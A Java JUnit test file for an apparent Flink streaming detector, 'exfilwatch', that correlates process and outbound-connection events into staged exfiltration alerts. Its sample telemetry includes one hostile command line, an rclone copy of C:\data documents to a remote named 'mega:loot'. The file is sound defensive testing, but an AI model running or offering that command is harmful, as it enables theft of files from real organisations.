package exfilwatch.job;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import exfilwatch.alert.RiskWeights;
import exfilwatch.detection.DetectionContent;
import exfilwatch.job.config.SuppressionConfig;
import exfilwatch.telemetry.Connection;
import exfilwatch.telemetry.Direction;
import exfilwatch.telemetry.Event;
import exfilwatch.telemetry.EventKind;
import exfilwatch.telemetry.Host;
import exfilwatch.telemetry.ProcessInfo;
import exfilwatch.telemetry.User;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.apache.flink.api.common.RuntimeExecutionMode;
import org.apache.flink.api.common.eventtime.WatermarkStrategy;
import org.apache.flink.configuration.Configuration;
import org.apache.flink.configuration.ExecutionOptions;
import org.apache.flink.configuration.PipelineOptions;
import org.apache.flink.streaming.api.datastream.DataStream;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.streaming.api.functions.sink.v2.DiscardingSink;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** The graph itself: what every operator must have, and that both executions find the same. */
class DetectionGraphTest {

  private static final long T0 = 1_700_000_000_000L;

  @Test
  void everyOperatorHasAUidAndNoTypeFallsToKryo() throws Exception {
    StreamExecutionEnvironment env = environment(RuntimeExecutionMode.STREAMING);
    build(env, List.of(start("a", 10)), false).alerts().sinkTo(new DiscardingSink<>()).uid("sink");
    assertThat(env.getStreamGraph().getJobGraph().getNumberOfVertices()).isPositive();
  }

  @Test
  void theCheckAboveFailsWithoutAUid() throws Exception {
    StreamExecutionEnvironment env = environment(RuntimeExecutionMode.STREAMING);
    build(env, List.of(start("a", 10)), false).alerts().sinkTo(new DiscardingSink<>());
    assertThatThrownBy(() -> env.getStreamGraph().getJobGraph())
        .hasMessageContaining("no UID or hash has been assigned");
  }

  @ParameterizedTest
  @EnumSource(
      value = RuntimeExecutionMode.class,
      names = {"STREAMING", "BATCH"})
  void findsTheThreeStagesInAnyOrderOfArrival(RuntimeExecutionMode mode) throws Exception {
    List<Event> events = new ArrayList<>();
    events.add(start("a", 10));
    events.add(connection("a", 10, 2));
    events.add(connection("a", 10, 3));
    events.add(end("a", 10, 20));
    for (int i = 0; i < 200; i++) {
      events.add(connection("other-" + i % 7, 100 + i % 7, i / 10.0));
    }
    for (long seed = 0; seed < 3; seed++) {
      Collections.shuffle(events, new Random(seed));
      StreamExecutionEnvironment env = environment(mode);
      List<JsonNode> alerts = collect(build(env, events, mode == RuntimeExecutionMode.BATCH));
      assertThat(alerts)
          .extracting(alert -> alert.at("/exfil/stage").asText())
          .containsExactlyInAnyOrder("started", "correlated", "closed");
      assertThat(alerts).extracting(alert -> alert.at("/exfil/incident/id").asText()).hasSize(3);
      JsonNode closed = stage(alerts, "closed");
      assertThat(closed.at("/exfil/connections/count").asInt()).isEqualTo(2);
      assertThat(closed.at("/user/name").asText()).isEqualTo("jdoe");
    }
  }

  @ParameterizedTest
  @EnumSource(
      value = RuntimeExecutionMode.class,
      names = {"STREAMING", "BATCH"})
  void tellsOfAProcessWhoseStartNobodySawAndCountsIncidentsAlike(RuntimeExecutionMode mode)
      throws Exception {
    List<Event> events = new ArrayList<>();
    events.add(connection("running", 9, 1));
    events.add(connection("running", 9, 2));
    for (int i = 0; i < 5; i++) {
      events.add(at(start("a" + i, 10 + i), 100 + i * 100));
      events.add(connection("a" + i, 10 + i, 101 + i * 100));
      events.add(end("a" + i, 10 + i, 110 + i * 100));
    }
    List<JsonNode> alerts =
        collect(build(environment(mode), events, mode == RuntimeExecutionMode.BATCH));
    assertThat(alerts)
        .extracting(
            alert ->
                alert.at("/exfil/stage").asText() + " " + alert.at("/exfil/missing/0").asText())
        .filteredOn(stage -> stage.endsWith("start"))
        .containsExactlyInAnyOrder("started start", "correlated start", "closed start");
    List<JsonNode> closings =
        alerts.stream()
            .filter(alert -> alert.at("/exfil/missing").isMissingNode())
            .filter(alert -> alert.at("/exfil/stage").asText().equals("closed"))
            .toList();
    Map<String, Integer> countByIncident = new HashMap<>();
    closings.forEach(
        alert ->
            countByIncident.merge(
                alert.at("/exfil/incident/id").asText(),
                1 + alert.at("/exfil/suppressed").asInt(),
                Math::max));
    assertThat(countByIncident.values().stream().mapToInt(Integer::intValue).sum()).isEqualTo(5);
    assertThat(alerts)
        .filteredOn(alert -> alert.at("/exfil/missing").isMissingNode())
        .filteredOn(alert -> alert.at("/exfil/stage").asText().equals("started"))
        .hasSize(1);
  }

  private static Event at(Event e, double seconds) {
    return new Event(
        e.kind(),
        e.source(),
        e.id(),
        T0 + (long) (seconds * 1000),
        e.host(),
        e.process(),
        e.parent(),
        e.user(),
        e.connection(),
        e.dns());
  }

  private static JsonNode stage(List<JsonNode> alerts, String stage) {
    return alerts.stream()
        .filter(alert -> alert.at("/exfil/stage").asText().equals(stage))
        .findFirst()
        .orElseThrow();
  }

  private static List<JsonNode> collect(DetectionGraph.Outputs outputs) throws Exception {
    return EveryFormat.collect(outputs, DetectionContent.load(List.of(Path.of("conf/rules"))));
  }

  private static StreamExecutionEnvironment environment(RuntimeExecutionMode mode) {
    Configuration configuration = new Configuration();
    configuration.set(ExecutionOptions.RUNTIME_MODE, mode);
    configuration.set(PipelineOptions.GENERIC_TYPES, false);
    configuration.set(PipelineOptions.AUTO_GENERATE_UIDS, false);
    return StreamExecutionEnvironment.createLocalEnvironment(2, configuration);
  }

  private static DetectionGraph.Outputs build(
      StreamExecutionEnvironment env, List<Event> events, boolean sorted) throws Exception {
    DataStream<Decoded> telemetry =
        env.fromData(Decoded.class, events.stream().map(Decoded::of).toArray(Decoded[]::new))
            .uid("source")
            .assignTimestampsAndWatermarks(
                WatermarkStrategy.<Decoded>forBoundedOutOfOrderness(Duration.ofMinutes(1))
                    .withTimestampAssigner((decoded, previous) -> EventTime.timeOf(decoded)))
            .uid("event-time");
    GraphSettings settings =
        new GraphSettings(
            sorted,
            Duration.ofMinutes(1),
            Duration.ofHours(1),
            Duration.ofDays(7),
            SuppressionConfig.DEFAULT,
            RiskWeights.DEFAULT);
    return DetectionGraph.build(
        telemetry, DetectionContent.load(List.of(Path.of("conf/rules"))), settings);
  }

  private static Event start(String entity, long pid) {
    return event(
        EventKind.PROCESS_START,
        0,
        process(entity, pid, "rclone.exe copy C:\\data mega:loot --include *.docx"),
        null);
  }

  private static Event connection(String entity, long pid, double seconds) {
    return event(
        EventKind.CONNECTION,
        seconds,
        process(entity, pid, null),
        new Connection(
            Direction.OUTBOUND,
            "tcp",
            "10.0.0.7",
            50_000,
            "203.0.113.5",
            443,
            null,
            -1,
            -1,
            false));
  }

  private static Event end(String entity, long pid, double seconds) {
    return event(EventKind.PROCESS_END, seconds, process(entity, pid, null), null);
  }

  private static ProcessInfo process(String entity, long pid, @Nullable String commandLine) {
    return new ProcessInfo(
        entity,
        pid,
        0,
        entity.startsWith("other") ? "mail.exe" : "rclone.exe",
        entity.startsWith("other") ? "C:\\t\\mail.exe" : "C:\\t\\rclone.exe",
        commandLine,
        null,
        null,
        null,
        null,
        null);
  }

  private static Event event(
      EventKind kind, double seconds, ProcessInfo process, @Nullable Connection connection) {
    return new Event(
        kind,
        "endpoint",
        null,
        T0 + (long) (seconds * 1000),
        new Host("WS-7", "host-id", "windows"),
        process,
        null,
        new User("jdoe", "CORP", null),
        connection,
        null);
  }
}
